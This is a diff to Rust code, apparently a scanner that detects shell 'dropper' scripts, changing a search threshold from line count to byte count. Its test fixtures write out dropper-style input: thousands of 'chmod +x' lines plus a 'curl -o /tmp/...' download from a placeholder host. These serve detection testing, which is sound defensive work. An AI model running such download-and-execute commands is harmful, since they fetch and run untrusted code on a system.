@@ -538,15 +538,17 @@ fn dropped_and_made_executable(text: &str) -> Option<regex::Match<'_>> {
 /// of them at once.
 struct ExecutableMarks<'t> {
     lines: Vec<&'t str>,
+    /// Their length in all.
+    bytes: usize,
     /// Each whitespace- or quote-separated token of the lines, whole and as its last path part.
     tokens: HashSet<&'t str>,
     /// `*` patterns the lines name files by (`chmod +x dir/*.sh`).
     patterns: Vec<&'t str>,
 }
 
-/// Up to this many lines a name is looked for anywhere in them, as text; past it (only hostile
-/// input has thousands of `chmod` lines) as a whole token, which an index answers at once.
-const MARK_LINES_SEARCHED_AS_TEXT: usize = 256;
+/// Up to this many bytes of lines a name is looked for anywhere in them, as text; past it (only
+/// hostile input has thousands of `chmod` lines) as a whole token, which an index answers at once.
+const MARK_BYTES_SEARCHED_AS_TEXT: usize = 64 * 1024;
 /// Wildcard patterns kept; past it further patterns are not tried.
 const MAX_MARK_PATTERNS: usize = 256;
 
@@ -571,6 +573,7 @@ impl<'t> ExecutableMarks<'t> {
             }
         }
         Self {
+            bytes: lines.iter().map(|l| l.len()).sum(),
             lines,
             tokens,
             patterns,
@@ -579,7 +582,7 @@ impl<'t> ExecutableMarks<'t> {
 
     /// Whether a line names `file`: literally, or by a `*` pattern.
     fn name(&self, file: &str) -> bool {
-        let literally = if self.lines.len() <= MARK_LINES_SEARCHED_AS_TEXT {
+        let literally = if self.bytes <= MARK_BYTES_SEARCHED_AS_TEXT {
             self.lines.iter().any(|l| l.contains(file))
         } else {
             self.tokens.contains(file)
@@ -891,10 +894,10 @@ mod tests {
         );
 
         // Thousands of chmod lines are looked up by token, all at once.
-        let many: String = (0..1_000)
+        let many: String = (0..5_000)
             .map(|i| format!("chmod +x ./tool{i}\n"))
             .collect();
-        let dropper = format!("{many}curl -o /tmp/tool999 https://h.example/t\n");
+        let dropper = format!("{many}curl -o /tmp/tool4999 https://h.example/t\n");
         assert!(found(&dropper).is_some());
         let unrelated = format!("{many}curl -o /tmp/other https://h.example/t\n");
         assert!(found(&unrelated).is_none());
